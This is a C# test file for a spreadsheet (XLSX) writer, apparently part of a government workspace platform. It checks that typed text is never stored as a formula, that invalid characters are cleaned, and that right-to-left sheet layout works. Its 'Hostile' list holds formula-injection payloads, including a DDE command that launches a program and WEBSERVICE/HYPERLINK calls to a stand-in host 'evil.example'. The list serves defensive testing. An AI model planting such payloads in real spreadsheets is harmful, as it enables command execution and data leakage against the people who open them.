using System.IO.Compression;
using System.Xml.Linq;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using OpenGov.Workspace.Platform;

namespace OpenGov.Workspace.Reports.Spreadsheets;

public sealed class XlsxFileTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("opengov-xlsx-").FullName;

    /// <summary>Each would compute, call a program or reach out if it were a formula.</summary>
    private static readonly string[] Hostile =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "'=1+1", "\"=1+1", ";=1+1", " =1+1", "\n=1+1",
    ];

    [Fact]
    public void What_people_typed_stays_text_whatever_it_begins_with()
    {
        var file = Write(xlsx =>
        {
            using var sheet = xlsx.Sheet("نصوص", new XlsxColumn("النص"), new XlsxColumn("n"));
            foreach (var text in Hostile) sheet.Row(XlsxCell.Text(text), XlsxCell.Number(1));
        });

        using var document = SpreadsheetDocument.Open(file, isEditable: false);
        var cells = Cells(document, "نصوص");
        Assert.DoesNotContain(cells, cell => cell.CellFormula is not null);
        Assert.Equal(Hostile.Select(Read), cells.Where(c => c.CellReference!.Value!.StartsWith('A')).Skip(1).Select(c => Read(c.InnerText)));

        Assert.DoesNotContain(LibreOffice(file).Descendants(Table + "table-cell"), cell => cell.Attribute(Table + "formula") is not null);
    }

    [Fact]
    public void Characters_that_a_file_cannot_hold_do_not_spoil_it()
    {
        var file = Write(xlsx =>
        {
            using var sheet = xlsx.Sheet("t", new XlsxColumn("a"));
            sheet.Row(XlsxCell.Text("bell\u0007 half \ud83d pair 😀 _x0041_ <&>"));
        });

        using var document = SpreadsheetDocument.Open(file, isEditable: false);
        Assert.Equal("bell\ufffd half \ufffd pair 😀 _x005F_x0041_ <&>", Cells(document, "t")[1].InnerText);
        var shown = LibreOffice(file).Descendants(Table + "table-row").ElementAt(1).Value;
        Assert.Equal("bell\ufffd half \ufffd pair 😀 _x0041_ <&>", shown);
    }

    [Fact]
    public void A_sheet_runs_from_the_right_freezes_and_filters_its_header_and_prints_it_on_each_page()
    {
        var file = Write(xlsx =>
        {
            using var sheet = xlsx.Sheet("جدول", new XlsxColumn("أ"), new XlsxColumn("ب"), new XlsxColumn("ج"));
            sheet.Row(XlsxCell.Text("x"), XlsxCell.Number(40), XlsxCell.Day(new DateOnly(2021, 2, 27)));
            sheet.Row(XlsxCell.Text("y"), XlsxCell.Number(2), XlsxCell.Blank);
            sheet.Totals(XlsxCell.Text("z"), XlsxCell.Formula("SUM(B2:B3)", 42));
        });

        using var document = SpreadsheetDocument.Open(file, isEditable: false);
        Assert.Empty(new OpenXmlValidator().Validate(document).Select(e => e.Description));
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet!;
        Assert.True(sheet.Descendants<SheetView>().Single().RightToLeft!.Value);
        Assert.Equal(PaneStateValues.Frozen, sheet.Descendants<Pane>().Single().State!.Value);
        Assert.Equal("A1:C3", sheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.AutoFilter>().Single().Reference!.Value);
        Assert.Equal("'جدول'!$1:$1", document.WorkbookPart.Workbook!.DefinedNames!.Single().InnerText);

        var rows = LibreOffice(file).Descendants(Table + "table-row").ToList();
        Assert.Equal("42", Values(rows[3])[1]);
        Assert.Equal("2021-02-27", rows[1].Elements(Table + "table-cell").ElementAt(2).Attribute(Office + "date-value")?.Value);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    internal static readonly XNamespace Table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";
    internal static readonly XNamespace Office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";

    internal static string[] Values(XElement row) =>
        [.. row.Elements(Table + "table-cell").Select(cell => cell.Attribute(Office + "value")?.Value ?? cell.Value)];

    /// <summary>What LibreOffice makes of the file, every formula computed anew.</summary>
    internal static XElement LibreOffice(string xlsx)
    {
        var folder = Path.GetDirectoryName(xlsx)!;
        var bare = Path.Combine(folder, "bare-" + Path.GetFileName(xlsx));
        File.Copy(xlsx, bare, overwrite: true);
        WithoutResults(bare);
        DebianPackage.Run("libreoffice-calc-nogui", "soffice", "--headless", $"-env:UserInstallation=file://{folder}/profile",
            "--convert-to", "fods", "--outdir", folder, bare);
        return XElement.Load(Path.ChangeExtension(bare, ".fods"));
    }

    internal static List<Cell> Cells(SpreadsheetDocument document, string sheet)
    {
        var id = document.WorkbookPart!.Workbook!.Descendants<Sheet>().Single(s => s.Name == sheet).Id!.Value!;
        return [.. ((WorksheetPart)document.WorkbookPart.GetPartById(id)).Worksheet!.Descendants<Cell>()];
    }

    private static void WithoutResults(string file)
    {
        using var zip = ZipFile.Open(file, ZipArchiveMode.Update);
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)).ToList())
        {
            XElement sheet;
            using (var read = entry.Open()) sheet = XElement.Load(read, LoadOptions.PreserveWhitespace);
            sheet.Descendants().Where(e => e.Name.LocalName == "v" && e.ElementsBeforeSelf().Any(b => b.Name.LocalName == "f")).ToList().ForEach(v => v.Remove());
            var name = entry.FullName;
            entry.Delete();
            using var write = zip.CreateEntry(name).Open();
            sheet.Save(write, SaveOptions.DisableFormatting);
        }
    }

    // XML knows one kind of line end.
    private static string Read(string text) => text.Replace('\r', '\n');

    private string Write(Action<XlsxFile> write)
    {
        var path = Path.Combine(_folder, $"{Guid.NewGuid()}.xlsx");
        using var stream = File.Create(path);
        using var xlsx = new XlsxFile(stream, rightToLeft: true, "foot & more");
        write(xlsx);
        return path;
    }
}
